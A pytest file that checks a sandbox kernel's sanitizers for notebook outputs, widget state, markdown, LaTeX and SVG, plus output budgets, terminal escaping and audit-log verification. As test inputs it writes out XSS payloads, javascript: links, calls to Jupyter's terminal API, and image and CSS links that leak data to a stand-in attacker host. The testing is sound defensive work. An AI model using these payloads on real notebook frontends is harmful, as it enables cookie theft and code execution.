"""Host-side guards on what the sandbox hands to a browser, a terminal and the audit reader.

active_content (sanitizer), output_budget (per-cell budget), terminal_text
(printable), audit._open_sessions (a JSONL session without session_end) and
results.exception_from_reply (BaseExceptions, a worker's own MemoryError).
Pure host-side functions, run on real inputs (a real matplotlib SVG, a real
audit log written by a real BASIC sandbox).
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
import xml.dom.minidom
from pathlib import Path

import pytest

from glsandbox_kernel import OSSandbox, create_config_by_level
from glsandbox_kernel.active_content import (
    MAX_MARKDOWN_RENDER,
    clean_bundle,
    clean_frame,
    clean_markdown,
    clean_state,
    clean_svg,
    clean_user_expressions,
    latex_refusal,
)
from glsandbox_kernel.backends.registry import backends
from glsandbox_kernel.exceptions import SandboxMemoryError, SandboxRemoteError
from glsandbox_kernel.output_budget import OutputBudget
from glsandbox_kernel.results import exception_from_reply, reply_tampering
from glsandbox_kernel.terminal_text import as_text, printable

ACTIVE = ("<script", "onerror", "onload", "javascript:", "<iframe", "foreignObject")


def _active(text: str) -> list[str]:
    return [a for a in ACTIVE if a.lower() in text.lower()]


def test_script_mimetypes_are_dropped_and_plain_data_kept() -> None:
    notes: list[str] = []
    data = {
        "text/plain": "<b>kept as text</b>",
        "application/json": {"html": "<script>data, not markup</script>"},
        "image/png": "iVBORw0KGgo=",
        "application/javascript": "fetch('/api/terminals', {method: 'POST'})",
        "text/javascript; charset=utf-8": "x()",
        "application/vnd.bokehjs_exec.v0+json": "",
    }
    out = clean_bundle(data, notes)
    assert out == {k: data[k] for k in ("text/plain", "application/json", "image/png")}
    assert any("application/javascript" in n for n in notes)


def test_html_is_sanitized_by_an_allowlist() -> None:
    markup = (
        "<table class='dataframe'><tr><td style='color: red; position: fixed'>1</td></tr></table>"
        "<script>fetch('/api/kernels')</script><img src=x onerror=alert(1)>"
        "<img src='data:image/png;base64,AA'><a href='javascript:alert(1)'>l</a><a href='https://e.org'>ok</a>"
        "<iframe srcdoc='<script>x()</script>'></iframe><svg><circle onload='x()'/></svg>"
        "<img src='http://attacker.example/?leak=1'>"
    )
    notes: list[str] = []
    html = clean_bundle({"text/html": markup}, notes)["text/html"]
    assert not _active(html), html
    assert "<td" in html and "color:red" in html and "position" not in html
    assert 'src="data:image/png;base64,AA"' in html and "attacker.example" not in html
    assert 'href="https://e.org"' in html
    assert notes


def test_unchanged_bundles_and_frames_are_returned_as_they_are() -> None:
    data = {"text/plain": "x", "image/png": "AA"}
    assert clean_bundle(data) is data
    frame = {"type": "display_data", "data": data, "metadata": {}}
    assert clean_frame(frame) is frame
    stream = {"type": "stream", "name": "stdout", "text": "<script>"}
    assert clean_frame(stream) is stream  # stream text is shown as text by every frontend


def test_a_real_matplotlib_svg_stays_a_valid_image_without_scripts() -> None:
    figure = pytest.importorskip("matplotlib.figure")
    fig = figure.Figure()  # no pyplot: no global backend state in the test process
    fig.subplots().plot([1, 2, 3], "o-")
    buf = io.StringIO()
    fig.savefig(buf, format="svg")
    hostile = buf.getvalue().replace("</svg>", "<script>alert(1)</script><g onload='x()'/></svg>")
    svg = clean_svg(hostile)
    doc = xml.dom.minidom.parseString(svg)  # still XML with its namespaces, as an <img> needs
    assert doc.documentElement.tagName == "svg"
    assert len(doc.getElementsByTagName("use")) > 0 and len(doc.getElementsByTagName("path")) > 0
    assert not _active(svg)


def test_markdown_keeps_quotes_and_loses_scripts() -> None:
    text = "# t\n> a quote <b onclick='x()'>bold</b>\n[a](javascript:alert(1)) [b](https://ok.example)"
    out = clean_markdown(text)  # rendered, sent as sanitized HTML
    assert out.startswith("<h1>t</h1>\n<blockquote>\n<p>a quote <b>bold</b>")
    assert "javascript:" not in out and 'href="https://ok.example"' in out


def test_widget_state_html_and_output_bundles_are_cleaned() -> None:
    notes: list[str] = []
    state = {
        "state": {
            "value": "<img src=x onerror=\"fetch('/api/terminals')\">",
            "placeholder": "a < b",
            "outputs": [{"output_type": "display_data", "data": {"application/javascript": "x()", "text/plain": "p"}}],
            "n": 3,
            "_esm": "export function render() { fetch('/api/terminals', {method: 'POST'}) }",
        },
        "method": "update",
    }
    out = clean_state(state, notes)
    assert out["state"]["value"] == "<img>"
    assert out["state"]["placeholder"] == "a < b"  # plain text with "<" stays as it was
    assert out["state"]["outputs"][0]["data"] == {"text/plain": "p"}
    assert out["state"]["n"] == 3 and out["method"] == "update"
    assert "_esm" not in out["state"]  # anywidget's module: code the browser would run
    plain = {"state": {"value": 1.5, "description": "x"}}
    assert clean_state(plain) is plain


def test_output_budget_cuts_streams_with_one_notice_and_counts_the_rest() -> None:
    budget = OutputBudget(limit=100)
    first = budget.admit({"type": "stream", "name": "stdout", "text": "a" * 60})
    assert [f["text"] for f in first] == ["a" * 60]
    cut = budget.admit({"type": "stream", "name": "stdout", "text": "b" * 60})
    assert cut[0]["text"] == "b" * 40 and "budget" in cut[1]["text"] and cut[1]["name"] == "stderr"
    assert budget.admit({"type": "stream", "name": "stdout", "text": "c" * 10}) == []
    assert budget.admit({"type": "display_data", "data": {"text/plain": "d" * 50}}) == []
    error = {"type": "error", "ename": "ValueError", "evalue": "x", "traceback": []}
    assert budget.admit(error) == [error]  # the cell's failure is still shown
    fields = budget.record_fields()
    assert fields["outputs_truncated"] is True and fields["outputs_dropped"] == 3
    assert fields["outputs_dropped_bytes"] >= 20 + 10 + 50
    assert budget.admit({"type": "clear_output", "wait": False})
    assert budget.admit({"type": "stream", "name": "stdout", "text": "e"})  # cleared: room again
    assert OutputBudget().record_fields() == {}


def test_printable_escapes_terminal_controls() -> None:
    payload = "ValueError: \r\x1b[2K[1/1] ok\x1b]52;c;ZWNobw==\x07\u202e\x9b\ud800 done\n\tnext"
    out = printable(payload)
    assert not any((ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F for c in out), repr(out)
    assert "\\x1b]52" in out and "\\u202e" in out and out.endswith("done\n\tnext")
    out.encode("utf-8")  # lone surrogates escaped too
    assert printable("plain text") == "plain text"


@pytest.mark.parametrize("name", ["SystemExit", "KeyboardInterrupt", "GeneratorExit"])
def test_base_exceptions_from_the_worker_are_remote_errors(name: str) -> None:
    cfg = create_config_by_level("strict")
    exc = exception_from_reply({"ename": name, "evalue": "stop", "builtin": True}, cfg, None)
    assert isinstance(exc, SandboxRemoteError) and name in str(exc)
    ok = exception_from_reply({"ename": "ValueError", "evalue": "v", "builtin": True}, cfg, None)
    assert type(ok) is ValueError


def test_a_worker_memory_error_under_the_limit_stays_its_own_with_the_hosts_note() -> None:
    """The worker's reply (its ``memory_error`` flag too) is the sandbox's word: only the peak measured
    outside at the limit makes a MemoryError the limit's error; under it, the code's own MemoryError."""
    cfg = create_config_by_level("strict")
    limit = cfg.limits.memory_limit_bytes
    assert limit is not None
    reply = {"ename": "MemoryError", "evalue": "x", "builtin": True, "memory_error": True}
    claimed = exception_from_reply(reply, cfg, 17 << 20, measured_by="cgroup-v2")
    assert type(claimed) is MemoryError and str(claimed) == "x"
    (note,) = claimed.__notes__
    assert note.startswith("glsandbox: the sandbox reported MemoryError; the host measured a peak of 17.0 MiB")
    assert "RLIMIT_AS" not in note and note.endswith("not a limit the host saw reached")
    rlimit = exception_from_reply(reply, cfg, 17 << 20, measured_by="procfs")  # no cgroup: say what holds it
    assert type(rlimit) is MemoryError and "no cgroup holds that limit" in rlimit.__notes__[0]
    near = exception_from_reply(reply, cfg, limit - (1 << 20), measured_by="cgroup-v2")  # a cgroup stops short
    assert isinstance(near, SandboxMemoryError) and "peak measured outside" in str(near)
    measured = exception_from_reply(reply, cfg, limit + 1)
    assert isinstance(measured, SandboxMemoryError) and "peak measured outside" in str(measured)


def test_reply_fields_become_bounded_text_and_other_types_are_named_as_tampering() -> None:
    big = 2**20000  # str() of it raises ValueError (Python's int string limit)

    class Hostile:
        def __str__(self) -> str:
            raise RuntimeError("no")

    assert as_text(big) == "<int>" and as_text(Hostile()) == "<Hostile>" and printable(big) == "<int>"
    assert as_text(7) == "7" and len(as_text(list(range(10_000)))) == 10_000 and as_text("s" * 20_000) == "s" * 20_000
    honest = {"type": "cell_reply", "status": "error", "ename": "E", "evalue": "", "traceback": ["l"]}
    honest |= {"execution_count": 3, "payload": [], "user_expressions": {}, "ask_exit": False}
    assert reply_tampering(honest) is None
    assert reply_tampering({"type": "result", "ok": True, "value": big}) is None  # a value may be anything
    wrong = reply_tampering({"ok": [1, 2], "ename": big, "traceback": ["l", big]})
    assert wrong == "ok is list, ename is int, traceback has lines that are not text"
    exc = exception_from_reply(
        {"ename": big, "evalue": Hostile(), "traceback": [big]}, create_config_by_level("strict"), None
    )
    assert isinstance(exc, SandboxRemoteError) and "<int>" in str(exc)


OK, WHY = backends()["basic"].available()


@pytest.mark.skipif(not OK, reason=f"basic: {WHY}")
def test_verify_warns_about_a_session_without_session_end(tmp_path: Path) -> None:
    log = tmp_path / "a.jsonl"
    cfg = create_config_by_level("strict", isolation_type="basic", audit_log_path=str(log))
    with OSSandbox(cfg) as sb:
        sb.execute(int, 3)
    lines = log.read_text().splitlines(keepends=True)
    cut = tmp_path / "cut.jsonl"
    cut.write_text("".join(lines[:-1]))  # the session_end line cut off

    def verify(*args: str) -> subprocess.CompletedProcess[str]:
        cmd = [sys.executable, "-m", "glsandbox_kernel.cli", "audit", "verify", *args]
        env = {k: v for k, v in os.environ.items() if k != "GLSANDBOX_AUDIT_KEY"}
        return subprocess.run(cmd, capture_output=True, text=True, timeout=60, env=env)

    whole = verify(str(log))
    assert whole.returncode == 0 and "warning" not in whole.stdout, whole.stdout
    res = verify(str(cut))
    assert res.returncode == 0, res.stdout + res.stderr
    assert "warning: session" in res.stdout and "no session_end" in res.stdout
    strict = verify("--strict", str(cut))
    assert strict.returncode == 1 and "no session_end" in strict.stdout


def test_only_known_display_types_pass() -> None:
    """Renderer types that fetch with the user's cookies or run code (Vega, Plotly, ...) are removed."""
    notes: list[str] = []
    spec = {"data": {"url": "/api/contents/.env?content=1"}}
    bundle = {
        "application/vnd.vega.v5+json": spec,
        "application/vnd.vegalite.v5+json": spec,
        "application/vnd.plotly.v1+json": {},
        "application/geo+json": {},
        "text/plain": "chart",
        "image/png": "iVBORw0KGgo=",
        "application/json": {"a": 1},
    }
    assert clean_bundle(bundle, notes) == {
        "text/plain": "chart",
        "image/png": "iVBORw0KGgo=",
        "application/json": {"a": 1},
    }
    assert len(notes) == 4


def test_markdown_images_must_be_inline_and_links_cannot_script() -> None:
    assert "attacker" not in clean_markdown("![](https://attacker.example/x.png?d=SECRET)")
    assert "attacker" not in clean_markdown("[r]: https://attacker.example/x.png\n\n![a][r]")
    for link in ("javascript&colon;alert(1)", "java&#9;script:alert(1)", "&#106;avascript:alert(1)", "JaVaScRiPt:x"):
        assert "script" not in clean_markdown(f"[click]({link})").lower().replace("#blocked", ""), link
    kept = clean_markdown("[docs](https://example.org/a) ![i](data:image/png;base64,AAAA) [rel](notes/a.md)")
    for target in ('href="https://example.org/a"', 'src="data:image/png;base64,AAAA"', 'href="notes/a.md"'):
        assert target in kept, kept
    # what the regex rewrite missed: nested brackets, a link around an image, references in quotes/lists
    for text in (
        "![c [1] f](http://h.example/x)",
        "[s [1] h](javascript:x())",
        "[![i](data:image/png;base64,AA==)](javascript:x())",
        "> [r]: http://h.example/q.png\n\n![a][r]",
        "- [r]: http://h.example/l.png\n\n![a][r]",
    ):
        out = clean_bundle({"text/markdown": text})
        assert list(out) == ["text/html"] and "h.example" not in out["text/html"], out
        assert "javascript" not in out["text/html"], out
    plain = {"text/markdown": "# Title\n\n*x* $a_1$"}  # nothing that could link: kept as markdown
    assert clean_bundle(plain) is plain
    big = "[x](javascript:y())" * (MAX_MARKDOWN_RENDER // 10)  # too long to render: escaped text
    assert clean_markdown(big).startswith("<pre>[x](javascript:y())")


def test_styles_that_fetch_are_dropped() -> None:
    out = clean_bundle(
        {
            "text/html": '<div style="color: red; clip-path: url(http://h.example/c.svg#a)">a</div>'
            '<div style="background-color: red; clip-path: u\\72 l(http://h.example/d)">b</div>'
            '<div style="clip-path: url(#local)">c</div>'
        }
    )["text/html"]
    assert "h.example" not in out and "color:red" in out and "url(&quot;#local&quot;)" in out, out
    svg = clean_svg('<svg><g fill="url(http://h.example/p#g)" clip-path="url(#c)"><path d="M0 0"/></g></svg>')
    assert "h.example" not in svg and 'clip-path="url(#c)"' in svg, svg


def test_a_notice_names_a_sandbox_type_on_one_line() -> None:
    notes: list[str] = []
    clean_bundle({"application/javascript\n\nglsandbox: audit OK" + "x" * 500: "1"}, notes)
    assert len(notes) == 1 and "\n" not in notes[0] and len(notes[0]) <= 160


def test_widget_messages_only_for_the_modules_the_frontend_ships() -> None:
    from glsandbox_kernel.active_content import widget_refusal

    def opened(**state: object) -> dict[str, object]:
        return {"comm_id": "c", "target_name": "jupyter.widget", "data": {"state": state}}

    assert widget_refusal("comm_open", opened(_model_module="@jupyter-widgets/controls")) is None
    assert widget_refusal("comm_open", opened(_model_module="@jupyter-widgets/output")) is None
    assert widget_refusal("comm_open", opened(_model_module="https://attacker.example/evil.js")) is not None
    assert widget_refusal("comm_open", opened(_view_module="jupyter-vue")) is not None
    assert widget_refusal("comm_msg", {"comm_id": "c", "data": {"state": {"format": "url"}}}) is not None
    assert widget_refusal("comm_open", {"comm_id": "c", "target_name": "jupyter.bokeh", "data": {}}) is not None


def test_the_widget_control_answer_names_only_the_modules_the_frontend_ships() -> None:
    """``update_states`` on ``jupyter.widget.control`` (the worker answers it) holds every widget's state at once."""
    from glsandbox_kernel.active_content import widget_refusal

    def answer(model_module: str, **state: object) -> dict[str, object]:
        entry = {"model_name": "M", "model_module": model_module, "model_module_version": "*", "state": state}
        return {"comm_id": "c", "data": {"method": "update_states", "states": {"w": entry}, "buffer_paths": []}}

    assert widget_refusal("comm_msg", {"comm_id": "c", "data": {"method": "update_states", "states": {}}}) is None
    assert widget_refusal("comm_msg", answer("@jupyter-widgets/controls", _view_module="@jupyter-widgets/base")) is None
    assert widget_refusal("comm_msg", answer("https://attacker.example/evil.js")) is not None
    assert widget_refusal("comm_msg", answer("@jupyter-widgets/controls", _view_module="jupyter-vue")) is not None
    assert widget_refusal("comm_msg", answer("@jupyter-widgets/controls", format="url")) is not None


def test_widget_traffic_has_a_budget_of_its_own() -> None:
    """Comm frames are not outputs, but a flood of them is held to the cell's budget too (and counted)."""
    from glsandbox_kernel.output_budget import OutputBudget

    budget = OutputBudget(1 << 20)
    frame = {"type": "comm_msg", "content": {"comm_id": "c", "data": {"state": {"value": "x" * 1000}}}}
    sent = sum(budget.admit_comm(frame) for _ in range(5000))
    assert 700 < sent < 1100, sent  # ~1.2 KiB each with its overhead
    assert budget.record_fields()["comm_messages_dropped"] == 5000 - sent
    with_buffers = {"type": "comm_msg", "content": {"comm_id": "c", "data": {}}, "buffers": [b"\0" * (2 << 20)]}
    assert not OutputBudget(1 << 20).admit_comm(with_buffers)


def test_latex_keeps_plain_math_and_loses_formulas_with_other_macros() -> None:
    """MathJax/KaTeX turn some macros into links, CSS classes/styles/ids or loaded extensions."""
    sympy_like = r"$\displaystyle \left(\frac{\alpha^{2}}{\sqrt{x}}\right)\, \\ \operatorname{sin}{\left(x \right)}$"
    assert clean_bundle({"text/latex": sympy_like}) == {"text/latex": sympy_like}
    assert latex_refusal(r"a \\href b") is None  # a line break, then letters
    for hostile in (
        r"$\href{javascript:alert(document.cookie)}{click}$",
        r"$\class{jp-x}{x}$",
        r"$\style{position:fixed;inset:0}{x}$",
        r"$\cssId{x}{y}$",
        r"$\unicode{x1F600}$",
        r"$\require{action}\toggle{a}{b}\endtoggle$",
        r"$\def\ok{\href{javascript:1}{x}}\ok$",
        r"$\\\href{javascript:1}{x}$",
    ):
        notes: list[str] = []
        out = clean_bundle({"text/plain": "x", "text/latex": hostile}, notes)
        assert out == {"text/plain": "x"}, hostile
        assert notes and "text/latex" in notes[0]
    # a list of lines is one text, as Jupyter's multiline strings are
    assert clean_bundle({"text/latex": [r"\href{javascript:1}", "{x}"]}) == {}


def test_user_expressions_are_shaped_and_their_bundles_cleaned() -> None:
    notes: list[str] = []
    hostile = {
        "a": {"status": "ok", "data": {"text/html": "<img src=x onerror=alert(1)>", "text/plain": "1"}, "metadata": {}},
        "b": {"status": "ok", "data": {"application/javascript": "alert(1)", "text/latex": r"\href{javascript:1}{x}"}},
        "c": {"status": "error", "ename": "E", "evalue": "v", "traceback": ["t", 1], "extra": "<script>"},
        "d": "not a dict",
        "e": {"status": "ok", "data": "<script>alert(1)</script>", "metadata": ["x"]},
    }
    out = clean_user_expressions(hostile, notes)
    assert set(out) == {"a", "b", "c", "e"}
    assert out["a"]["data"]["text/plain"] == "1" and not _active(out["a"]["data"]["text/html"])
    assert out["b"] == {"status": "ok", "data": {}, "metadata": {}}
    assert out["c"] == {"status": "error", "ename": "E", "evalue": "v", "traceback": ["t", "1"]}
    assert out["e"] == {"status": "ok", "data": {}, "metadata": {}}
    assert len(notes) >= 3
    assert clean_user_expressions(["x"]) == {}


def test_tex_outside_the_plain_math_set_is_broken_in_html_markdown_and_widget_state() -> None:
    """JupyterLab typesets $...$ in HTML and markdown outputs and in HTMLMath widgets: no \\href/\\style there."""
    from glsandbox_kernel.active_tex import defuse_tex

    html_out = clean_bundle({"text/html": "<p>$\\href{javascript:alert(1)}{x}$ and $\\alpha$</p>"})["text/html"]
    assert "\\href" not in html_out and "\\alpha" in html_out
    md_out = clean_bundle({"text/markdown": "see [a](http://x) $\\style{cursor:url(http://x)}{y}$"})["text/html"]
    assert "\\style" not in md_out
    state = clean_state({"value": "$\\class{x}{y}$ $\\frac{1}{2}$"})
    assert "\\class" not in state["value"] and "\\frac" in state["value"]
    # no math delimiter: nothing is typeset, text is kept as it is (Windows paths, escaped dollars)
    assert defuse_tex("C:\\Users\\x") == "C:\\Users\\x"
    assert clean_state({"value": "C:\\Users"}) == {"value": "C:\\Users"}


def test_widget_state_styles_that_fetch_are_dropped() -> None:
    """ipywidgets' style models set their strings as CSS: a url() there fetches as soon as the view shows."""
    for css in ("url(http://127.0.0.1:9/leak)", "\\75 rl(http://127.0.0.1:9/x)", "image-set('http://x' 1x)"):
        assert clean_state({"style": {"background": css}}) == {"style": {"background": ""}}, css
    kept = {"style": {"background": "url(#frag)", "color": "red"}, "value": "see image.png"}
    assert clean_state(kept) is kept


def test_lone_surrogates_are_escaped_before_the_sanitizer() -> None:
    """Review 26: nh3 raised ``UnicodeEncodeError`` on a lone surrogate, so the relay dropped the whole output
    (and the record still listed it). Every markup type and widget state string is escaped first, and noted."""
    bundle = {
        "text/plain": "p\udfff",  # plain text is the relay's json_safe's to escape
        "text/html": "<i>\udfff</i><script>x</script>",
        "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><text>\ud800</text></svg>',
        "text/markdown": "[a](http://x) \udfff",
    }
    notes: list[str] = []
    out = clean_bundle(bundle, notes)
    assert out["text/html"] == "<i>\\udfff</i>" and "\\ud800" in out["image/svg+xml"], out
    assert out["text/plain"] == "p\udfff" and "text/markdown" not in out
    assert "text with lone surrogates (escaped)" in notes, notes
    assert all(isinstance(v, str) and v.encode("utf-8") for k, v in out.items() if k != "text/plain")
    state = clean_state({"value": "<b onclick=x>\udfff</b>"}, notes)
    assert state == {"value": "<b>\\udfff</b>"}, state
